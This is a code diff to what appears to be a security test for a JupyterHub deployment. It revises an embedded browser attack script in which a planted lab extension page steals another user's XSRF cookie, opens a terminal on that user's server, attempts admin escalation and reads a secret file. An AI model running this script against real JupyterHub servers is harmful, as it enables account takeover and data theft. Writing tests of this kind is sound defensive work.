@@ -43,7 +43,9 @@ PLANTED = ".local/share/jupyter/labextensions/evil/static/steal.html"
 SECRET = "bob's homework, nobody else's"
 
 # What alice's page does in its visitor's browser. Every step is tried; a step the browser
-# blocks records why. `hub` is the hub's origin, `server` bob's server's.
+# blocks records why. `hub` is the hub's origin, `server` bob's server's. The terminal step
+# opens bob's lab in a window first, as a link would, which also logs the browser in to
+# bob's server for the file read after it.
 ATTACK = """
 async ({hub, server, victim, owner}) => {
   const out = {};
@@ -78,10 +80,7 @@ async ({hub, server, victim, owner}) => {
       body: JSON.stringify({admin: true})});
     return {status: response.status};
   });
-  await attempt("files", async () => {
-    const response = await fetch(`${server}/user/bob/api/contents/secret.txt`, {credentials: "include"});
-    return {status: response.status, body: (await response.text()).slice(0, 300)};
-  });
+  let serverXsrf = "";
   await attempt("terminal", async () => {
     const lab = window.open(`${server}/user/bob/lab`);
     let cookie = "";
@@ -89,10 +88,17 @@ async ({hub, server, victim, owner}) => {
       await new Promise(resolve => setTimeout(resolve, 500));
       cookie = lab.document.cookie;
     }
-    const token = (cookie.match(/_xsrf=([^;]+)/) || [])[1] || "";
+    serverXsrf = decodeURIComponent((cookie.match(/_xsrf=([^;]+)/) || [])[1] || "");
     const response = await fetch(`${server}/user/bob/api/terminals`, {
-      method: "POST", credentials: "include", headers: {"X-XSRFToken": decodeURIComponent(token)}});
+      method: "POST", credentials: "include", headers: {"X-XSRFToken": serverXsrf}});
     lab.close();
+    return {status: response.status, body: (await response.text()).slice(0, 300)};
+  });
+  // After bob's lab page opened in his browser, which logged it in to his server; a script's
+  // request needs the server's XSRF token even to read (JupyterHub's rule for fetch()).
+  await attempt("files", async () => {
+    const response = await fetch(`${server}/user/bob/api/contents/secret.txt`, {
+      credentials: "include", headers: {"X-XSRFToken": serverXsrf}});
     return {status: response.status, body: (await response.text()).slice(0, 300)};
   });
   return out;
